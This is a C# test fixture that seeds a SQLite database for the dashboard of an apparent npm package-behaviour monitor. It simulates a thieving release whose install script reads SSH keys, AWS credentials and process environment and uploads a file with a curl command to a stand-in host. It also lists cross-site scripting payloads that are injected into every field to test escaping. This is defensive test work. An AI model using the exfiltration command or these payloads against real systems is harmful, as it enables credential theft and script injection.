using System.Globalization;
using System.Text.Json;
using Fangs.Actors.Storage;
using Fangs.Actors.Storage.Sqlite;
using Microsoft.Data.Sqlite;

namespace Fangs.Tests.Dashboard;

/// <summary>A database as some weeks of watching leave it: packages that behave, one that steals, runs of every kind.</summary>
public sealed class DashboardSeeds : IDisposable
{
    /// <summary>The run of the release that steals.</summary>
    public const string Thief = "019ac0aa000000000000000000000001";

    /// <summary>The run of the release before it, which is the baseline.</summary>
    public const string Honest = "019ab0ee000000000000000000000005";

    /// <summary>A run whose evidence is incomplete.</summary>
    public const string Inconclusive = "019ad2dd000000000000000000000004";

    /// <summary>A failed run; shares its first digits with <see cref="Thief"/>.</summary>
    public const string Failed = "019ac0bb000000000000000000000002";

    /// <summary>The deviation of <see cref="Thief"/> that reads a key.</summary>
    public const string KeyRead = "d0000000000000000000000000000001";

    /// <summary>A deviation of <see cref="Thief"/> that contacts a host.</summary>
    public const string HostNamed = "d0000000000000000000000000000002";

    /// <summary>A run with thousands of processes and many events.</summary>
    public const string Large = "019aee11000000000000000000000009";

    /// <summary>Everything that a package chooses tries to become script.</summary>
    public const string Hostile = "019aff22000000000000000000000066";

    /// <summary>The deviation of <see cref="Hostile"/>.</summary>
    public const string HostileDeviation = "dfff0000000000000000000000000066";

    /// <summary>Texts that would be script, markup or another place if they were taken for it.</summary>
    public static readonly string[] Attacks =
    [
        "<script>window.owned=1</script>", "\"><img src=x onerror=\"window.owned=1\">", "' onmouseover='window.owned=1' x='", "javascript:window.owned=1",
        "</title><svg onload=window.owned=1>", "</textarea><script>window.owned=1</script>", "&lt;script&gt;window.owned=1&lt;/script&gt;", "{{window.owned=1}}", "]]><script>window.owned=1</script>",
    ];

    private readonly SqliteConnection _connection;
    private readonly SqliteTransaction _transaction;
    private readonly DateTimeOffset _now;
    private long _eventId = 1;

    private DashboardSeeds(string path, DateTimeOffset now)
    {
        _connection = new SqliteConnection($"Data Source={path};Pooling=False");
        _connection.Open();
        _transaction = _connection.BeginTransaction();
        _now = now;
    }

    /// <summary>Makes a database file.</summary>
    public static void Fill(string path, DateTimeOffset now)
    {
        SqliteDatabase.OpenExclusive(path).Dispose();
        using var seeds = new DashboardSeeds(path, now);
        seeds.Watch();
        seeds.Steal();
        seeds.OrdinaryRuns();
        seeds.OtherEnds();
        seeds.Many();
        seeds.Attack();
        seeds.Operators();
        seeds._transaction.Commit();
    }

    public void Dispose()
    {
        _transaction.Dispose();
        _connection.Dispose();
    }

    private void Watch()
    {
        foreach (var (name, hours) in new[] { ("left-thing", 700), ("@acme/logger", 600), ("tiny-yaml", 500), ("color-table", 420), ("@acme/http-agent", 300), ("deep-merge-lite", 200), ("glob-walk", 90) })
        {
            Execute("INSERT INTO packages (name, added_at, last_checked_at, last_seen_version, next_check_at, latest_version, complete_since) VALUES (@p0, @p1, @p2, @p3, @p4, @p3, @p1)",
                name, Ago(hours), Ago(0.03), "2.0.1", Ago(-0.05), "2.0.1");
            for (var i = 0; i < 6; i++)
            {
                var (version, at) = ($"{(i < 3 ? "1" : "2")}.{i % 3}.{(i == 5 ? 1 : 0)}", Ago(hours - (i * hours / 6.5)));
                Execute("INSERT INTO releases (package_name, version, tarball_sha256, npm_integrity, published_at, discovered_at, state, skip_reason) VALUES (@p0, @p1, '', 'sha512-AA==', @p2, @p2, @p3, @p4)",
                    name, version, at, i == 0 ? "skipped" : "queued", i == 0 ? "published before the package was watched" : "");
            }
        }

        Execute("UPDATE packages SET failure_count = 3, last_error = 'the registry answered 503' WHERE name = 'glob-walk'");
    }

    private void Steal()
    {
        Run(Honest, "left-thing", "2.0.0", "done", 30, "is_baseline = 1, baseline_by = 'auto', conclusive = 1, duration_ns = 2280000000, node_version = '20.19.2', npm_version = '11.4.2', npm_exit = 0, runner_id = 'lab-1', events_emitted = 4");
        Batch(Honest, Exec(10, 1, "/usr/bin/node", ["node", "/usr/bin/npm", "install", "left-thing@2.0.0"], "npm", 0), File(10, "/work/node_modules/left-thing/index.js", 0x241, "npm", 90), Dns(10, "registry.example", "npm", 40));
        Fingerprint(Honest, "proc_new_exec", "/usr/bin/node", "npm", 1);
        Fingerprint(Honest, "fs_new_path_write", "/work/node_modules/left-thing/**", "npm", 2);
        Fingerprint(Honest, "net_new_dns", "registry.example", "npm", 3);
        Fingerprint(Honest, "fs_new_path_read", "/work/.npmrc", "npm", 1);

        Run(Thief, "left-thing", "2.0.1", "done", 0.4, "conclusive = 1, duration_ns = 2410000000, node_version = '20.19.2', npm_version = '11.4.2', npm_exit = 0, runner_id = 'lab-1', events_emitted = 15");
        var first = _eventId;
        Batch(Thief,
            Exec(10, 1, "/usr/bin/node", ["node", "/usr/bin/npm", "install", "left-thing@2.0.1"], "npm", 0),
            Dns(10, "registry.example", "npm", 60),
            File(10, "/work/node_modules/left-thing/package.json", 0x241, "npm", 120),
            Exec(11, 10, "/bin/sh", ["sh", "-c", "node scripts/setup.js"], "script", 300),
            Exec(12, 11, "/usr/bin/node", ["node", "scripts/setup.js"], "script", 306),
            File(12, "/home/node/.ssh/id_rsa", 0, "script", 318, tags: 3),
            File(12, "/home/node/.aws/credentials", 0, "script", 319, ret: -2, tags: 3),
            Dns(12, "cdn-metrics.example", "script", 402),
            Connect(12, "198.51.100.23", 443, "script", 404),
            Sni(12, "cdn-metrics.example", "script", 405),
            Exec(13, 12, "/usr/bin/curl", ["curl", "-s", "-T", "/tmp/.cache-4711", "https://cdn-metrics.example/c"], "script", 410),
            File(12, "/tmp/.cache-4711", 0x241, "script", 408),
            Exec(14, 12, "/bin/sh", ["sh", "-c", "crontab -l"], "script", 430),
            Exec(20, 1, "/usr/bin/node", ["node", "-e", "require('left-thing')"], "import", 1300),
            File(20, "/proc/self/environ", 0, "import", 1360, tags: 3));
        foreach (var (category, value, evidence) in new[]
        {
            ("proc_new_exec", "/usr/bin/node", 0), ("net_new_dns", "registry.example", 1), ("fs_new_path_write", "/work/node_modules/left-thing/**", 2), ("proc_new_exec", "/bin/sh", 3),
            ("fs_new_path_read", "/home/node/.ssh/id_rsa", 5), ("fs_new_path_read", "/home/node/.aws/credentials", 6), ("net_new_dns", "cdn-metrics.example", 7),
            ("net_new_destination", "198.51.100.23:443", 8), ("net_new_https_host", "cdn-metrics.example", 9), ("proc_new_exec", "/usr/bin/curl", 10), ("fs_new_path_write", "/tmp/.cache-<RAND>", 11),
        })
            Fingerprint(Thief, category, value, evidence < 3 ? "npm" : "script", first + evidence, evidence is 5 or 6 ? 3 : 1);
        Fingerprint(Thief, "fs_new_path_read", "/proc/self/environ", "import", first + 14, 3, "import");
        var number = 1;
        foreach (var (category, value, evidence, severity, role, phase) in new[]
        {
            ("fs_new_path_read", "/home/node/.ssh/id_rsa", 5, "crit", "script", "install"), ("net_new_https_host", "cdn-metrics.example", 9, "warn", "script", "install"),
            ("fs_new_path_read", "/home/node/.aws/credentials", 6, "crit", "script", "install"), ("net_new_dns", "cdn-metrics.example", 7, "warn", "script", "install"),
            ("net_new_destination", "198.51.100.23:443", 8, "warn", "script", "install"), ("proc_new_exec", "/usr/bin/curl", 10, "warn", "script", "install"),
            ("proc_new_exec", "/bin/sh", 3, "warn", "script", "install"), ("fs_new_path_write", "/tmp/.cache-<RAND>", 11, "info", "script", "install"),
            ("fs_new_path_read", "/proc/self/environ", 14, "crit", "import", "import"),
        })
            Deviation($"d{number++:x31}", Thief, category, value, first + evidence, severity, 0.39, severity == "crit", role, phase);
        foreach (var (category, value, runs) in new[] { ("proc_new_exec", "/usr/bin/node", 5), ("fs_new_path_write", "/work/node_modules/left-thing/**", 5), ("net_new_dns", "registry.example", 5), ("fs_new_path_read", "/work/.npmrc", 1) })
            Execute("INSERT INTO baseline_fingerprints (package_name, category, value, first_seen_run_id, last_seen_run_id, occurrence_count, rules_version) VALUES ('left-thing', @p0, @p1, @p2, @p3, @p4, 1)", category, value, Honest, Thief, runs);
        foreach (var (state, hours, detail) in new[] { ("pending", 0.41, "queued"), ("building", 0.408, "handed to lab-1"), ("sandboxed", 0.406, ""), ("done", 0.4, ""), ("judged", 0.399, "9 deviations") })
            Execute("INSERT INTO run_history (run_id, at, what, detail) VALUES (@p0, @p1, @p2, @p3)", Thief, Ago(hours), state, detail);
    }

    private void OrdinaryRuns()
    {
        string[] packages = ["@acme/logger", "tiny-yaml", "color-table", "@acme/http-agent", "deep-merge-lite", "glob-walk", "left-thing"];
        for (var i = 0; i < 120; i++)
        {
            var (package, hours) = (packages[i % packages.Length], 0.6 + (i * 0.21) + (i % 5 * 0.05));
            var id = $"019a{0xff0 - i:x3}{i:x25}";
            Run(id, package, $"1.{i % 3}.0", "done", hours, $"is_baseline = {(i % 3 == 0 ? 1 : 0)}, conclusive = 1, duration_ns = {1_900_000_000L + (i * 7_000_000L)}, runner_id = 'lab-{1 + (i % 3)}', node_version = '20.19.2', npm_version = '11.4.2', npm_exit = 0, events_emitted = 1");
            Batch(id, Exec(10, 1, "/usr/bin/node", ["node", "/usr/bin/npm", "install", package], "npm", 0));
            Fingerprint(id, "proc_new_exec", "/usr/bin/node", "npm", _eventId - 1);
            if (i % 19 == 7) Deviation($"e{i:x31}", id, "net_new_dns", $"updates-{i}.example", _eventId - 1, i % 2 == 0 ? "high" : "warn", hours, false, "script", "install");
            Execute("INSERT INTO run_history (run_id, at, what, detail) VALUES (@p0, @p1, 'building', '')", id, Ago(hours + 0.02 + (i % 7 * 0.05)));
        }
    }

    private void OtherEnds()
    {
        Run(Failed, "tiny-yaml", "2.0.1", "failed", 1.5, "failure_reason = 'npm ended with status 1: E404 Not Found', conclusive = 0, inconclusive_reason = 'the scan failed: npm ended with status 1: E404 Not Found', npm_exit = 1, runner_id = 'lab-2', output_tail = 'npm error code E404' || char(10) || 'npm error 404 Not Found - tiny-yaml@2.0.1'");
        Run(Inconclusive, "color-table", "2.0.1", "done", 2.2, "conclusive = 0, inconclusive_reason = '37 events were lost', events_dropped = 37, duration_ns = 6100000000, runner_id = 'lab-3'");
        Batch(Inconclusive, Exec(10, 1, "/usr/bin/node", ["node", "/usr/bin/npm", "install", "color-table@2.0.1"], "npm", 0));
    }

    private void Many()
    {
        Run(Large, "deep-merge-lite", "2.0.1", "done", 5, "conclusive = 1, duration_ns = 41000000000, runner_id = 'lab-1', npm_exit = 0, events_emitted = 6000");
        var events = new List<(string, string)> { Exec(100, 1, "/usr/bin/node", ["node", "/usr/bin/npm", "rebuild"], "npm", 0) };
        for (var i = 0; i < 1500; i++)
        {
            var pid = 200 + i;
            events.Add(Exec(pid, i % 50 == 0 ? 100 : 200 + (i / 50 * 50), "/usr/bin/cc", ["cc", "-c", $"src/part{i}.c"], "script", 20 + i));
            events.Add(File(pid, $"/work/build/part{i}.o", 0x241, "script", 21 + i));
            if (i % 100 == 99) events.Add(Dns(pid, $"mirror{i}.example", "script", 22 + i));
        }

        foreach (var part in events.Chunk(500)) Batch(Large, part);
        Fingerprint(Large, "proc_new_exec", "/usr/bin/cc", "script", _eventId - 1);
    }

    private void Attack()
    {
        var text = string.Concat(Attacks);
        Run(Hostile, Attacks[0] + Attacks[1], Attacks[2], "done", 8, "conclusive = 0");
        Execute("UPDATE runs SET inconclusive_reason = @p0, failure_reason = @p0, runner_id = @p1, output_tail = @p0, node_version = @p2, npm_version = @p3 WHERE id = @p4", text, Attacks[1], Attacks[4], Attacks[7], Hostile);
        var first = _eventId;
        Batch(Hostile,
            Exec(666, 1, Attacks[0], [Attacks[1], Attacks[2], text], "script", 0),
            File(666, "/" + text, 0x241, "script", 1),
            Dns(666, Attacks[4], "script", 2), Sni(666, Attacks[3], "script", 3), Connect(666, Attacks[1], 80, "script", 4),
            ("syscall_rare", Payload(666, 1, Attacks[0], Attacks[1], 5, 1, Attacks[2], ("Syscall", text))),
            (Attacks[0], Payload(666, 1, Attacks[0], "script", 6, 1, Attacks[1], ("Text", text))));
        Fingerprint(Hostile, "fs_new_path_write", "/" + text, Attacks[1], first + 1, 1, Attacks[2]);
        Deviation(HostileDeviation, Hostile, "fs_new_path_write", "/" + text, first + 1, Attacks[0], 8, true, Attacks[1], Attacks[2]);
        foreach (var (attack, i) in Attacks.Select((attack, i) => (attack, i)))
        {
            Deviation($"dfff{i:x28}", Hostile, i % 2 == 0 ? attack : "net_new_https_host", attack, first, "warn", 8, false, attack, attack);
            Execute("INSERT INTO allowlists (id, scope, package_name, kind, value, note, created_at, created_by) VALUES (@p0, 'package', @p1, 'sni', @p2, @p2, @p3, @p2)", $"a77ac{i:x11}", Attacks[0] + Attacks[1], attack, Ago(8));
            Execute("INSERT INTO notifiers (name, url, template, secret_env, headers, min_severity, enabled, created_at, updated_at) VALUES (@p0, @p1, @p0, @p0, @p2, @p0, 1, @p3, @p3)", attack, "https://hooks.example/" + attack, JsonSerializer.Serialize(new Dictionary<string, string> { [attack] = attack }), Ago(8));
            Execute("INSERT INTO run_history (run_id, at, what, detail) VALUES (@p0, @p1, @p2, @p2)", Hostile, Ago(8), attack);
            Execute("INSERT INTO audit_log (at, actor, action, subject, detail) VALUES (@p0, @p1, @p1, @p2, @p3)", Ago(8), attack, Hostile, JsonSerializer.Serialize(new { value = attack, note = attack }));
            Execute("INSERT INTO baseline_fingerprints (package_name, category, value, first_seen_run_id, last_seen_run_id, occurrence_count, rules_version) VALUES (@p0, @p1, @p1, @p2, @p2, 1, 1)", Attacks[0] + Attacks[1], attack, Hostile);
        }

        Execute("UPDATE deviations SET decided_by = @p0, note = @p0, status = 'rejected', decided_at = @p1 WHERE id = @p2", text, Ago(7), HostileDeviation);
        Execute("INSERT INTO packages (name, added_at, last_error, failure_count, latest_version) VALUES (@p0, @p1, @p2, 1, @p2)", Attacks[0] + Attacks[1], Ago(9), text);
        Execute("INSERT INTO releases (package_name, version, tarball_sha256, npm_integrity, discovered_at, state, skip_reason) VALUES (@p0, @p1, '', '', @p2, 'skipped', @p1)", Attacks[0] + Attacks[1], text, Ago(9));
        Execute("INSERT INTO notifications (id, run_id, notifier_name, attempt, status, error_msg, created_at) VALUES ('a-1', @p0, @p1, 1, @p1, @p2, @p3)", Hostile, Attacks[1], text, Ago(8));
    }

    private void Operators()
    {
        Execute("INSERT INTO allowlists (id, scope, package_name, kind, value, note, created_at, created_by) VALUES ('a1b2c3d4e5f60718', 'package', '@acme/logger', 'sni', 'telemetry.acme.example', 'agreed with the vendor', @p0, 'ann')", Ago(200));
        Execute("INSERT INTO allowlists (id, scope, package_name, kind, value, note, created_at, expires_at) VALUES ('cfg0123456789ab', 'global', NULL, 'cidr', '192.0.2.0/24', 'lab network', @p0, @p1)", Ago(400), Ago(-900));
        Execute("INSERT INTO allowlists (id, scope, package_name, kind, value, note, created_at, created_by) VALUES ('b1b2c3d4e5f60719', 'global', NULL, 'path', '/opt/cache', 'build cache', @p0, 'raj')", Ago(100));
        Execute("INSERT INTO notifiers (name, url, template, secret_env, headers, min_severity, enabled, created_at, updated_at) VALUES ('soc', 'https://hooks.example/in/T0KEN', 'generic', 'SOC_HMAC', '{\"Authorization\":\"Bearer ${SOC}\"}', 'high', 1, @p0, @p0)", Ago(300));
        Execute("INSERT INTO notifications (id, run_id, notifier_name, attempt, status, last_attempted_at, response_code, deviation_count, created_at) VALUES ('b-1', @p0, 'soc', 1, 'sent', @p1, 204, 9, @p1)", Thief, Ago(0.38));
        Execute("INSERT INTO audit_log (at, actor, action, subject, detail) VALUES (@p0, 'ann', 'baseline.promote', @p1, '{\"package\":\"left-thing\",\"note\":\"first release that we use\"}')", Ago(29), Honest);
    }

    private void Run(string id, string package, string version, string state, double hoursAgo, string rest)
    {
        Execute("INSERT INTO runs (id, package_name, version, state, started_at, finished_at, queued_at, analyzed_at, job_kind, result_digest, saw_exec) VALUES (@p0, @p1, @p2, @p3, @p4, @p5, @p4, @p5, 'sandbox_scan', 'x', 1)",
            id, package, version, state, Ago(hoursAgo + 0.01), Ago(hoursAgo));
        Execute($"UPDATE runs SET {rest} WHERE id = @p0", id);
    }

    private void Batch(string run, params (string Type, string Data)[] events)
    {
        var seq = Scalar("SELECT coalesce(max(seq), 0) + 1 FROM event_batches WHERE run_id = @p0", run);
        Execute("INSERT INTO event_batches VALUES (@p0, @p1, @p2, @p3, @p4)", run, seq, Ago(1), _eventId, events.Length);
        foreach (var (type, data) in events)
            Execute("INSERT INTO events (id, run_id, ts_ns, type, data) VALUES (@p0, @p1, @p2, @p3, @p4)", _eventId++, run, (_now.ToUnixTimeMilliseconds() * 1_000_000) + _eventId, type, data);
        foreach (var group in events.GroupBy(e => e.Type))
            Execute("INSERT INTO run_event_counts VALUES (@p0, @p1, @p2) ON CONFLICT (run_id, type) DO UPDATE SET count = count + excluded.count", run, group.Key, group.Count());
    }

    private void Fingerprint(string run, string category, string value, string role, long evidence, int tags = 1, string phase = "install") =>
        Execute("INSERT INTO run_fingerprints VALUES (@p0, @p1, @p2, @p3, @p4, 1, @p5, @p6, @p7)", run, category, value, role, phase, evidence, 5_000_000_000_000 + evidence, tags);

    private void Deviation(string id, string run, string category, string value, long evidence, string severity, double hoursAgo, bool credential, string role, string phase) =>
        Execute("INSERT INTO deviations (id, run_id, category, value, evidence_event_id, severity, detected_at, credential, role, phase) VALUES (@p0, @p1, @p2, @p3, @p4, @p5, @p6, @p7, @p8, @p9)",
            id, run, category, value, evidence, severity, Ago(hoursAgo), credential ? 1 : 0, role, phase);

    private static (string, string) Exec(int pid, int parent, string binary, string[] argv, string role, int ms) =>
        ("exec", Payload(pid, parent, binary.Split('/')[^1], role, ms, 0, PhaseOf(role), ("BinaryPathStr", binary), ("ArgvStrs", argv)));

    private static (string, string) File(int pid, string path, int flags, string role, int ms, int ret = 3, int tags = 1) =>
        ("file_access", Payload(pid, 0, "node", role, ms, tags, PhaseOf(role), ("PathName", path), ("Flags", flags), ("Op", "open"), ("Ret", ret)));

    private static (string, string) Dns(int pid, string name, string role, int ms) => ("dns_query", Payload(pid, 0, "node", role, ms, 0, PhaseOf(role), ("QName", name), ("QType", 1)));

    private static (string, string) Sni(int pid, string name, string role, int ms) => ("tls_sni", Payload(pid, 0, "node", role, ms, 0, PhaseOf(role), ("SNI", name)));

    private static (string, string) Connect(int pid, string address, int port, string role, int ms) =>
        ("net_connect", Payload(pid, 0, "node", role, ms, 0, PhaseOf(role), ("DestIP", address), ("DestPort", port), ("Proto", "tcp")));

    private static string PhaseOf(string role) => role == "import" ? "import" : "install";

    private static string Payload(int pid, int parent, string comm, string role, int ms, int tags, string phase, params (string Name, object Value)[] fields)
    {
        var payload = new Dictionary<string, object>
        {
            ["Header"] = new Dictionary<string, object> { ["TsNs"] = 5_000_000_000_000L + (ms * 1_000_000L), ["PID"] = pid, ["PPID"] = parent, ["Tags"] = tags, ["RunID"] = Enumerable.Repeat(7, 16).ToArray() },
            ["CommStr"] = comm,
            ["Role"] = role,
            ["Phase"] = phase,
        };
        foreach (var (name, value) in fields) payload[name] = value;
        return JsonSerializer.Serialize(payload);
    }

    private string Ago(double hours) => StorageText.Time(_now.AddHours(-hours));

    private void Execute(string sql, params object[] values) => Command(sql, values).ExecuteNonQuery();

    private long Scalar(string sql, params object[] values) => Convert.ToInt64(Command(sql, values).ExecuteScalar(), CultureInfo.InvariantCulture);

    private SqliteCommand Command(string sql, object[] values)
    {
        var command = new SqliteCommand(sql, _connection, _transaction);
        for (var i = 0; i < values.Length; i++) command.Parameters.AddWithValue("@p" + i.ToString(CultureInfo.InvariantCulture), values[i]);
        return command;
    }
}
